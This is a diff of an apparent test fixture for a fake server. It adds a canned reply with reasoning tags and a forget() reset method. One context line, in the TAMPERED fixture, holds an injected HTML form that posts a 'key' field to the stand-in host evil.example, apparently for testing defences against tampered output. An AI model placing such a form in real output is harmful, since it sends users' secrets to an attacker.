@@ -69,13 +69,19 @@ TAMPERED = """\
 </div></article><form action="https://evil.example"><input name="key"></form>
 """
 
-ANSWERS = {"markdown": MARKDOWN, "tampered": TAMPERED, "nothing": ""}
+THOUGHTS = "<think>\ntwo and two\n</think>\n\nIt is **four**."
+
+ANSWERS = {"markdown": MARKDOWN, "tampered": TAMPERED, "thoughts": THOUGHTS, "nothing": ""}
 
 
 class Record:
     """What the server was asked, and what it is to do."""
 
     def __init__(self) -> None:
+        self.forget()
+
+    def forget(self) -> None:
+        """Begin anew."""
         self.bodies: list[dict[str, Any]] = []
         self.key: str | None = None
         self.busy = 0  # how many requests are refused
